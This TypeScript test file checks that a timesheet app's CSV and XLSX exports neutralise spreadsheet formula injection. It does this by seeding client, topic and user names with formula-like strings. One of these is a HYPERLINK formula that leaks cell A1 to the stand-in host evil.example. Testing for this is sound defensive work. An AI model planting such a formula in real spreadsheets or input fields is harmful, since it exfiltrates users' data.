import ExcelJS from "exceljs";
import { beforeEach, describe, expect, it } from "vitest";
import { getTimesheet, logService } from "@/lib/domain/services/service";
import { timesheetCsv, timesheetWorkbook, type TTimesheetLabels } from "@/lib/exports/timesheet";
import { contextFor, createClient, createTenant, createUser, type TUserRow } from "@/tests/factories";
import { polishDaysAgo, serviceInput } from "@/tests/factories/services";

/**
 * CSV formula injection: a client, topic or user name is user text, and a spreadsheet runs text
 * that starts with = + - @ (or a tab or carriage return) as a formula. Both exports of a real
 * timesheet must write such text as text.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")';
const FORMULA_START = /^[=+\-@\t\r]/;

const labels: TTimesheetLabels = {
  sheets: { summary: "Summary", byDay: "By day", byClient: "By client", byType: "By type", services: "Services" },
  columns: {
    user: "User",
    month: "Month",
    count: "Services",
    minutes: "Minutes",
    hours: "Hours",
    client: "Client",
    supportType: "Support type",
    date: "Date",
    time: "Time",
    form: "Form",
    channel: "Channel",
    clients: "Clients",
    topic: "Topic",
  },
  total: "Total",
  supportType: (names) => names.nameEn ?? names.name,
  form: (form) => form,
  channel: (channel) => channel,
};

/** A ";"-separated CSV read back into cells (quotes and doubled quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ";") {
      row.push(cell);
      cell = "";
    } else if (!quoted && ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

let advisor: TUserRow;
const month = polishDaysAgo(0).slice(0, 7);

beforeEach(async () => {
  const tenant = await createTenant();
  advisor = await createUser(tenant, { role: "KEY_ADVISOR", name: "@SUM(1+1)" });
  const evil = await createClient(tenant, { keyAdvisorId: advisor.id, name: HYPERLINK });
  const plain = await createClient(tenant, { keyAdvisorId: advisor.id, name: "-1+1" });
  await logService(contextFor(advisor), serviceInput([evil.id], { topic: "=1+1", durationMinutes: 90, startTime: "09:00" }));
  await logService(contextFor(advisor), serviceInput([plain.id], { topic: "+1+1", durationMinutes: 30, startTime: "11:00" }));
});

describe("timesheet exports", () => {
  it("write a formula-like client name and topic into the CSV as quoted text", async () => {
    const csv = timesheetCsv(await getTimesheet(contextFor(advisor), { month }), labels);
    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ""));

    expect(header?.[7]).toBe("Clients");
    expect(rows.map((r) => [r[2], r[3], r[7], r[8]])).toEqual([
      ["90", "1,5", `'${HYPERLINK}`, "'=1+1"],
      ["30", "0,5", "'-1+1", "'+1+1"],
    ]);
    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // Still quoted for CSV: the payload's quotes are doubled inside a quoted cell.
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Kliknij"")";`);
  });

  it("write them into the XLSX as text cells starting with a quote, with numbers still numbers", async () => {
    const buffer = await timesheetWorkbook(await getTimesheet(contextFor(advisor), { month }), labels);
    const workbook = new ExcelJS.Workbook();
    // exceljs is typed against an older Buffer; the bytes are the same.
    await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);

    const values = (name: string) => {
      const sheet = workbook.getWorksheet(name);
      if (!sheet) throw new Error(`No sheet ${name}`);
      return (sheet.getSheetValues().slice(2) as unknown[][]).map((row) => row.slice(1));
    };
    expect(values("Summary")[0]?.slice(0, 1)).toEqual(["'@SUM(1+1)"]);
    expect(values("By client")).toEqual([
      [`'${HYPERLINK}`, 1, 90, 1.5],
      ["'-1+1", 1, 30, 0.5],
    ]);
    const services = values("Services");
    expect(services.slice(0, 2).map((r) => [r[2], r[7], r[8]])).toEqual([
      [90, `'${HYPERLINK}`, "'=1+1"],
      [30, "'-1+1", "'+1+1"],
    ]);

    // No string cell anywhere starts a formula; the only formulas are the two totals the export writes.
    const strings: string[] = [];
    const formulas: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string") strings.push(cell.value);
          if (cell.formula) formulas.push(cell.formula);
        }),
      ),
    );
    expect(strings.filter((s) => FORMULA_START.test(s))).toEqual([]);
    expect(formulas).toEqual(["SUM(C2:C3)", "SUM(D2:D3)"]);
  });
});
